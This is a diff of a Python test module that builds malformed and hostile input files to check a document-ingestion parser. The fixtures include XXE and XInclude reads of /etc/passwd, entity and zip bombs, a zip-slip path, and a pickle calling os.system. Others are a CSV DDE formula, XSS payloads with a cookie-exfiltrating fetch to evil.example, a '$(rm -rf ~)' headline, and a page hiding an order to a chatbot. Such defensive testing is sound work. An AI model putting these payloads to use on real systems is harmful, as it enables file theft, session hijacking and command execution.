@@ -13,10 +13,8 @@ from invented_exports import docx, para
 from bad_inputs.kinds import Kind, Stories
 from bad_inputs.make_packs import (
     answer,
-    copied_5,
     copy,
     document,
-    docx_2,
     linked_to,
     noise,
     pdf,
@@ -25,58 +23,48 @@ from bad_inputs.make_packs import (
     story_page,
     tarred,
     two,
-    wall,
     word,
+    word_with_parts,
     xlsx,
     zipped,
-    zipped_5,
 )
-from bad_inputs.make_pages import (
-    PNG,
-    between,
-    item_2,
-    meta,
-    paras,
-    picture,
-    rss_2,
-    rss_of,
-)
-from bad_inputs.make_papers import nexis, para_2, proquest_of, run, story_2, zipped_3
+from bad_inputs.make_pages import PNG, between, meta, notice, picture, rss_of, rss_with, short_item
+from bad_inputs.make_papers import nexis, proquest_of, run, word_paragraph, word_paragraphs
 from bad_inputs.make_tables import (
     SHEET,
     all_with,
-    book_3,
     book_of,
     changed,
-    feed_3,
+    changed_sheet,
+    changed_workbook,
     linked,
     other,
     row_with,
     rows,
+    rss_of_three,
     second,
-    table_2,
     workbook,
-    workbook_2,
 )
 from bad_inputs.make_texts import (
     XML,
-    book_2,
     copied,
-    copied_2,
-    copied_3,
+    copied_article,
+    copied_without_byline,
+    csv_text,
     each,
-    each_2,
     feed,
     item,
     jsonl,
     letter,
     listed,
+    made_for_each,
     mhtml,
     packed,
     page_with,
-    rows_5,
+    paragraphs,
     rtf,
     titled,
+    workbook_with_days,
 )
 from bad_inputs.reasons import (
     BROKEN_ROW,
@@ -183,13 +171,13 @@ def key_often(s):
 
 FORMULA = '<p>The level was <math xmlns="http://www.w3.org/1998/Math/MathML"><mi>h</mi><mo>=</mo><mfrac><mn>3</mn><mn>4</mn></mfrac></math> of a meter, the clerk said.</p>'
 LAUGHS = f'<!DOCTYPE l [<!ENTITY l0 "ha">{BOMB}]>'
-LAUGHS_2 = f'<!DOCTYPE html [<!ENTITY l0 "ha">{BOMB}]>'
+LAUGHS_IN_HTML = f'<!DOCTYPE html [<!ENTITY l0 "ha">{BOMB}]>'
 
 
 def many(s, count: int, broken: int) -> str:
-    lines = each_2(s, lambda n: [f"Rain {n}", "2026-03-01", s.text(n)], *range(1, count + 1))
+    lines = made_for_each(lambda n: [f"Rain {n}", "2026-03-01", s.text(n)], *range(1, count + 1))
     lines[broken] = lines[broken][:2]
-    return rows_5(["title", "date", "text"], lines)
+    return csv_text(["title", "date", "text"], lines)
 
 
 def many_members(s):
@@ -200,12 +188,12 @@ def many_members(s):
 
 
 def leads_out(s):
-    whole = zipfile.ZipFile(io.BytesIO(book_3(lambda sheet, s: None)(s)))
+    whole = zipfile.ZipFile(io.BytesIO(changed_sheet(lambda sheet, s: None)(s)))
     members = {n: whole.read(n) for n in whole.namelist() if n != "xl/worksheets/sheet1.xml"}
     rels = "xl/_rels/workbook.xml.rels"
     assert b"/xl/worksheets/sheet1.xml" in members[rels]
     members[rels] = members[rels].replace(b"/xl/worksheets/sheet1.xml", b"../../../../../../etc/passwd")
-    return zipped_5(members)
+    return packed(members)
 
 
 def with_macros(s: Stories) -> bytes:
@@ -217,7 +205,7 @@ def with_macros(s: Stories) -> bytes:
 
 def bookmarks(s: Stories) -> bytes:
     marks = "".join(f'<w:bookmarkStart w:id="{n}" w:name="b{n}"/><w:bookmarkEnd w:id="{n}"/>' for n in range(30_000))
-    return docx_2(story_2(s) + para_2(marks + run(s.text(2))))
+    return word_with_parts(word_paragraphs(s) + word_paragraph(marks + run(s.text(2))))
 
 
 def quoted_deep(s):
@@ -239,12 +227,13 @@ def proto(s):
     )
 
 
-def titled_3(*titles):
+def with_headlines(*titles):
+    """Return what makes a list of records with these headlines."""
     return lambda s: json.dumps([s.record(n, title=title) for n, title in enumerate(titles, 1)])
 
 
 def titled_table(*titles):
-    return lambda s: table_2(
+    return lambda s: csv_text(
         ["title", "date", "text"], [list(s.record(n, title=title).values()) for n, title in enumerate(titles, 1)]
     )
 
@@ -274,7 +263,7 @@ KINDS = [
     Kind("100,000 empty paragraphs", "a.html", lambda s: s.page("<p></p>" * 100_000), 1),
     Kind("4,000 boxes in one another", "a.html", lambda s: s.page("<div>" * 4000 + "</div>" * 4000), 0, OVER_THE_LIMIT_DEPTH),
     Kind("1,500 boxes in one another", "a.html", lambda s: s.page("<div>" * 1500 + "</div>" * 1500), 0, OVER_THE_LIMIT_DEPTH),
-    Kind("entities that grow", "a.html", lambda s: s.page("<p>&l9;</p>").replace("<!DOCTYPE html>", LAUGHS_2), 1),
+    Kind("entities that grow", "a.html", lambda s: s.page("<p>&l9;</p>").replace("<!DOCTYPE html>", LAUGHS_IN_HTML), 1),
     Kind("entity of a file", "a.html", lambda s: s.page("<p>&x;</p>").replace("<!DOCTYPE html>", SECRET), 1),
     Kind("attribute of a million characters", "a.html", lambda s: s.page(f'<img alt="{"x" * 1_000_000}">'), 1),
     Kind("5,000 attributes", "a.html", lambda s: s.page(f"<i {' '.join(f'a{n}=1' for n in range(5000))}></i>"), 1),
@@ -283,7 +272,7 @@ KINDS = [
     Kind("linked data nested deeper", "a.html", lambda s: s.page(head=linked("[" * 100_000)), 1),
     Kind("title of 100,000 characters in a page", "a.html", lambda s: s.page(head=meta("og:title", "Rain " * 20_000)), 1),
     Kind("page of scripts", "a.html", lambda s: "<html><head><script>go()</script></head><body><div id=app></div></body></html>", 0, NO_BODY_FOUND),
-    Kind("feed of an entity that grows", "a.xml", lambda s: feed(s, item(s, 2).replace("<p>", "<p>&l9;"), before=LAUGHS_2), 3, note="not correct XML"),
+    Kind("feed of an entity that grows", "a.xml", lambda s: feed(s, item(s, 2).replace("<p>", "<p>&l9;"), before=LAUGHS_IN_HTML), 3, note="not correct XML"),
     Kind("4,000 boxes in an entry", "a.xml", lambda s: feed(s, item(s, 2).replace("<p>", "<div>" * 4000 + "<p>")), 2, OVER_THE_LIMIT_DEPTH),
     Kind("bomb in a ZIP", "a.zip", lambda s: two(s, ("c.txt", b"\0" * 40_000_000)), 2, ("too large when unpacked",)),
     Kind("name of a member of 5,000 characters", "a.zip", lambda s: two(s, names=("x" * 5000 + ".txt", "b.html")), 2),
@@ -322,14 +311,14 @@ KINDS = [
     Kind("20,000 quotation marks open", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2) + " “" * 20_000))), 3),
     Kind("text of entities twice", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2).replace(" ", "&amp;nbsp;", 3)))), 3),
     Kind("script beside a page", "a_files/main.js", lambda s: SCRIPT, 0, FORM_NOT_KNOWN),
-    Kind("line of 3 million blanks", "a.txt", lambda s: copied_2(s) + " " * 3_000_000, 1),
+    Kind("line of 3 million blanks", "a.txt", lambda s: copied(s) + " " * 3_000_000, 1),
     Kind("100,000 attributes", "a.html", lambda s: s.page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">Rain.</p>"), 1),
     Kind("20,000 fonts in one another", "a.html", lambda s: s.page("<font>" * 20_000), 0, ("over the limit: depth",)),
     Kind("linked data of 50,000 objects", "a.html", lambda s: s.page(head=linked("[" + ",".join(['{"@type":"Thing"}'] * 50_000) + "]")), 1),
     Kind("MHTML 300 parts deep", "a.mht", lambda s: b"MIME-Version: 1.0\r\nSubject: Rain\r\n" + b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(300)) + b"Content-Type: text/html\r\n\r\n" + s.page().encode(), 1),
     Kind("feed with a file as an entity", "a.xml", lambda s: feed(s, item(s, 2).replace("<p>", "<p>&x; "), before='<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'), 3),
     Kind("Word with macros", "a.docm", lambda s: zipped(*[(n, zipfile.ZipFile(io.BytesIO(docx(para(f"Rain in {s.mark}"), *map(para, s.long().split("\n\n"))))).read(n)) for n in ("[Content_Types].xml", "word/document.xml")], ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), 1),
-    Kind("Excel: a formula for a text, never computed", "a.xlsx", workbook_2(formula_text), 2, ("no text",)),
+    Kind("Excel: a formula for a text, never computed", "a.xlsx", changed_workbook(formula_text), 2, ("no text",)),
     Kind("a guard against scripts above", "a.json", lambda s: ")]}'\n" + json.dumps(s.records()), 3),
     Kind(
         "an empty root for scripts",
@@ -350,12 +339,12 @@ KINDS = [
     Kind(
         "a feed with an entity of HTML",
         "f.xml",
-        lambda s: rss_of(s, item_2(s, 2) + item_2(s, 1, body=s.long().replace(" fell", "&nbsp;fell")) + item_2(s, 3)),
+        lambda s: rss_of(short_item(s, 2) + short_item(s, 1, body=s.long().replace(" fell", "&nbsp;fell")) + short_item(s, 3)),
         3,
     ),
     Kind("Word: a macro beside", "a.docm", lambda s: document(story(s), others={"word/vbaProject.bin": "MZ"}), 1),
     Kind("Word: entity that grows", "a.docx", lambda s: document(story(s)).replace(b"x", b"x"), 1),
-    Kind("a text with colors of a terminal", "a.txt", lambda s: copied_3(s).replace(b"Hail", b"\x1b[31mHail\x1b[0m"), 1),
+    Kind("a text with colors of a terminal", "a.txt", lambda s: copied_without_byline(s).replace(b"Hail", b"\x1b[31mHail\x1b[0m"), 1),
     Kind("a text in one line of 250,000 letters", "a.txt", lambda s: " ".join(s.text(n) for n in range(1500)), 1),
     Kind("a formula for a title", "a.csv", lambda s: s.table(["=cmd|' /C calc'!A0", "2026-03-02", s.text(2)]), 3),
     Kind(
@@ -372,13 +361,13 @@ KINDS = [
         1,
     ),
     Kind("pickle", "a.pkl", lambda s: b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x05true \x85R.", 0, FORM_NOT_KNOWN),
-    Kind("folders 30 deep", "/".join("abcdefghijklmnopqrstuvwxyzabcd") + "/a.txt", copied_3, 1),
+    Kind("folders 30 deep", "/".join("abcdefghijklmnopqrstuvwxyzabcd") + "/a.txt", copied_without_byline, 1),
     Kind("formulas around cells", "a.csv", lambda s: "title,date,text\n" + each(s, '"=""{title}""",2026-03-0{n},"{text}"\n'), 3),
     Kind("guard that never ends above", "a.json", lambda s: "for(;;);" + json.dumps(s.records()), 3),
     Kind("script in one line", "a.min.js", lambda s: '!function(e,t){"object"==typeof exports?t(exports):t(e.rain={})}(this,function(e){"use strict";var n=1;e.fall=function(){return n++}});\n' * 3, 0, FORM_NOT_KNOWN),
     Kind("map of a script", "a.js.map", lambda s: json.dumps({"version": 3, "file": "a.js", "sources": ["a.ts"], "names": ["rain"], "mappings": "AAAA,SAASA"}), 0, NO_TEXT),
     Kind("notebook as a script", "a.py", lambda s: "# %% [markdown]\n# # Rain\n\n# %%\nimport pandas as pd\n\nrain = pd.read_csv('rain.csv')\nrain.head()\n\n# %%\nrain.plot()\n", 0, ("no story",)),
-    Kind("a page that wants scripts", "a.html", lambda s: wall("The Ledger", "JavaScript is not available.", "We’ve detected that JavaScript is disabled in this browser. Please enable JavaScript or switch to a supported browser to continue."), 0, NOT_AN_ARTICLE),
+    Kind("a page that wants scripts", "a.html", lambda s: notice("The Ledger", "JavaScript is not available.", "We’ve detected that JavaScript is disabled in this browser. Please enable JavaScript or switch to a supported browser to continue."), 0, NOT_AN_ARTICLE),
     Kind("cells of 27,000 letters in a workbook", "a.xlsx", book_of(long_cells), 3),
     Kind("list in a line of 3 million letters", "a.json", lambda s: json.dumps([s.record(n, text=s.text(n) + " And it rained." * 70_000) for n in (1, 2, 3)]), 3),
     Kind("10,000 choices above the story", "a.html", lambda s: s.page().replace("<article>", "<select>" + "<option>Marlow</option>" * 10_000 + "</select><article>"), 1),
@@ -387,8 +376,8 @@ KINDS = [
     Kind("page cut off in a script above its story", "a.html", lambda s: s.page(head="<script>var rain = 1;").partition("<article>")[0], 0, ("no body found",)),
     Kind("feed whose second entry is nested wrongly", "a.xml", lambda s: feed(s, item(s, 2).replace("</title>", "")), 3),
     Kind("e-mail whose part never ends", "a.eml", lambda s: letter(s, 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n', f"--b\r\nContent-Type: text/plain\r\n\r\n{s.long()}"), 0, FORM_NOT_KNOWN),
-    Kind("link out of the folder beside a good page", "", lambda s: {"good.txt": copied_3(s), "link.txt": linked_to("/etc/hostname")}, 1, ("link out of the folder",)),
-    Kind("link to itself beside a good page", "", lambda s: {"good.txt": copied_3(s), "link.txt": linked_to("link.txt")}, 1, ("cannot be opened",)),
+    Kind("link out of the folder beside a good page", "", lambda s: {"good.txt": copied_without_byline(s), "link.txt": linked_to("/etc/hostname")}, 1, ("link out of the folder",)),
+    Kind("link to itself beside a good page", "", lambda s: {"good.txt": copied_without_byline(s), "link.txt": linked_to("link.txt")}, 1, ("cannot be opened",)),
     Kind("workbook with macros", "a.xlsm", with_macros, 3),
     Kind("line of 2 million blanks", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2))).replace("\n", "\n" + " " * 2_000_000 + "\n", 1), 3),
     Kind("200,000 hard blanks between paragraphs", "a.html", lambda s: s.page().replace("</p>", "</p>" + "&nbsp;" * 50_000), 1),
@@ -412,12 +401,12 @@ KINDS = [
     Kind("statement of a bank with tags that never end", "a.ofx", lambda s: OFX, 0, ("form not known",)),
     Kind("module of macros", "Rain.bas", lambda s: VBA, 0, ("no story",)),
     Kind("results of an election in 3,000 rows below a story", "a.html", lambda s: story_page(s).replace("</article>", "<table>" + "".join(f"<tr><td>Ward {n}</td><td>{n * 7}</td><td>{n % 100}%</td></tr>" for n in range(3000)) + "</table></article>"), 1),
-    Kind("member 120 folders deep", "a.zip", lambda s: zipped_3([("d/" * 120 + "a.txt", (f"Rain in {s.mark}\n\n" + s.long()).encode())]), 1),
+    Kind("member 120 folders deep", "a.zip", lambda s: packed([("d/" * 120 + "a.txt", (f"Rain in {s.mark}\n\n" + s.long()).encode())]), 1),
     Kind("name of a climb out of the folder in letters of an address", "%2e%2e%2f%2e%2e%2frain.txt", lambda s: f"Rain in {s.mark}\n\n{s.long()}\n", 1),
     Kind("3,000 rows, one of them short", "a.csv", lambda s: many(s, 3000, 1500), 2999, ("broken row",)),
     Kind("2,000 lines, one of them cut", "a.jsonl", lambda s: many_lines(s, 2000, 1000), 1999, ("not valid JSON",)),
-    Kind("20,000 rows of fonts alone below the rows", "a.xlsx", lambda s: book_2(s, bloated), 3),
-    Kind("feed that wants a file of the system within itself", "feed.xml", lambda s: feed_3(s, head=XML, inside='<xi:include href="file:///etc/passwd" parse="text"/>'), 3),
+    Kind("20,000 rows of fonts alone below the rows", "a.xlsx", lambda s: workbook_with_days(s, bloated), 3),
+    Kind("feed that wants a file of the system within itself", "feed.xml", lambda s: rss_of_three(s, head=XML, inside='<xi:include href="file:///etc/passwd" parse="text"/>'), 3),
     Kind("paragraphs with handlers of events and addresses of scripts", "a.html", lambda s: s.page().replace("<p>", '<p onclick="alert(1)" onmouseover=\'alert(2)\'><a href="javascript:alert(3)">').replace("</p>", "</a></p>"), 1),
     Kind("script in a drawing behind each paragraph", "a.html", lambda s: between(s, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><circle r="1"/></svg>'), 1),
     Kind("60,000 end tags that close nothing", "a.html", lambda s: s.page(after="</b></i></u>" * 20_000), 1),
@@ -441,15 +430,15 @@ KINDS = [
     Kind("workbook whose list of parts leads out of it", "a.xlsx", leads_out, 0, ("damaged workbook",)),
     Kind("formula that fetches a page as the text of a row", "a.csv", row_with('=IMPORTXML("https://l.example/rain","//p")'), 2, ("form not known",)),
     Kind("one key 100,000 times in a record", "a.json", key_often, 3),
-    Kind("feed whose entries hold scripts and handlers", "a.rss", lambda s: rss_2(s, lambda n: f"<link>https://l.example/{n}</link>", body=lambda n: paras(s, n).replace("<p>", '<p onclick="alert(1)">') + "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"), 3),
+    Kind("feed whose entries hold scripts and handlers", "a.rss", lambda s: rss_with(s, lambda n: f"<link>https://l.example/{n}</link>", body=lambda n: paragraphs(s, n).replace("<p>", '<p onclick="alert(1)">') + "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"), 3),
     Kind("page with a formula in MathML", "a.html", lambda s: s.page(FORMULA), 1),
     Kind("a million ampersands below a story", "a.html", lambda s: s.page(after="<div>" + "&" * 1_000_000 + "</div>"), 1),
     Kind("50,000 sections of letters opened below a story", "a.html", lambda s: s.page(after="<div>" + "<![CDATA[" * 50_000 + "</div>"), 1),
-    Kind("50,000 opening brackets behind a story", "a.txt", lambda s: copied_5(s) + "\n" + "([{" * 17_000 + "\n", 1),
-    Kind("20,000 share buttons behind a story", "a.txt", lambda s: copied_5(s) + "\nShare on Facebook\n" * 20_000, 1),
+    Kind("50,000 opening brackets behind a story", "a.txt", lambda s: copied_article(s) + "\n" + "([{" * 17_000 + "\n", 1),
+    Kind("20,000 share buttons behind a story", "a.txt", lambda s: copied_article(s) + "\nShare on Facebook\n" * 20_000, 1),
     Kind("answers quoted 60 deep below a story", "a.html", quoted_deep, 1),
     Kind("page with a hidden order to a chatbot", "a.html", lambda s: s.page(inside=ORDER), 1),
     Kind("records with names of a script's own in their keys", "a.json", proto, 3),
-    Kind("headlines that end a script", "a.json", titled_3("</script><script>alert(1)</script>", "Rain --><img src=x onerror=alert(2)>", "]]><svg onload=alert(3)>"), 3),
+    Kind("headlines that end a script", "a.json", with_headlines("</script><script>alert(1)</script>", "Rain --><img src=x onerror=alert(2)>", "]]><svg onload=alert(3)>"), 3),
     Kind("headlines with dollars and backslashes", "a.csv", titled_table("Rain costs $5, hail $x^2$", "\\frac{rain}{hail} \\", "$(rm -rf ~) `id` %TEMP%"), 3),
 ]  # fmt: skip
